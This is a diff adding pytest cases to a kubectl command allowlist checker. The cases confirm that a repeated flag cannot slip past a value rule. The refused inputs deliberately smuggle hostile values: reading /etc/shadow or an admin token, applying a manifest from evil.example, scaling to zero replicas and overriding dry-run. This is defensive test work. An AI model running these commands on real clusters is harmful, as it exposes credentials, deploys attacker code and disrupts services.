@@ -315,3 +315,52 @@ def test_prune_is_an_escape() -> None:
     )
     assert not verdict.allowed
     assert verdict.rule == "escape:--prune"
+
+
+@pytest.mark.parametrize(
+    ("rule", "allowed", "refused"),
+    [
+        (
+            "kubectl delete --dry-run=server",
+            "kubectl delete pod web-0 --dry-run=server",
+            "kubectl delete pod web-0 --dry-run=server --dry-run=none",
+        ),
+        (
+            "kubectl scale --replicas=1",
+            "kubectl scale deploy web --replicas=1",
+            "kubectl scale deploy web --replicas=1 --replicas=0",
+        ),
+        (
+            "kubectl get -o jsonpath-file=tpl/pods.txt",
+            "kubectl get pods -o jsonpath-file=tpl/pods.txt",
+            "kubectl get pods -o jsonpath-file=tpl/pods.txt -o jsonpath-file=/etc/aofd/admin-token",
+        ),
+        (
+            "kubectl apply -f https://good.example/app.yaml",
+            "kubectl apply -f https://good.example/app.yaml",
+            "kubectl apply -f https://good.example/app.yaml -f https://evil.example/x.yaml",
+        ),
+        ("kubectl apply -f -", "kubectl apply -f -", "kubectl apply -f - -f /etc/shadow"),
+        (
+            "kubectl create configmap --from-file=conf/app",
+            "kubectl create configmap x --from-file=conf/app",
+            "kubectl create configmap x --from-file=conf/app --from-file=/etc/shadow",
+        ),
+    ],
+)
+def test_a_repeated_flag_does_not_slip_past_a_value_rule(rule: str, allowed: str, refused: str) -> None:
+    """kubectl keeps the last of a plain flag and every one of a repeatable one: an allow rule that
+    gives a value must hold for every occurrence."""
+    pol = ctx(security={"allowed_commands": [rule]})
+    assert decide(allowed, pol).allowed, allowed
+    assert not decide(refused, pol).allowed, refused
+
+
+def test_every_occurrence_of_an_allowed_value_is_allowed() -> None:
+    pol = ctx(
+        security={"allowed_commands": ["kubectl apply -f a.yaml -f b.yaml", "kubectl scale --replicas=1"]}
+    )
+    assert decide("kubectl apply -f a.yaml -f b.yaml", pol).allowed
+    assert decide("kubectl scale deploy web --replicas=1 --replicas=1", pol).allowed
+    blocked = ctx(security={"blocked_commands": ["kubectl scale --replicas=0"]})
+    assert not decide("kubectl scale deploy web --replicas=1 --replicas=0", blocked).allowed
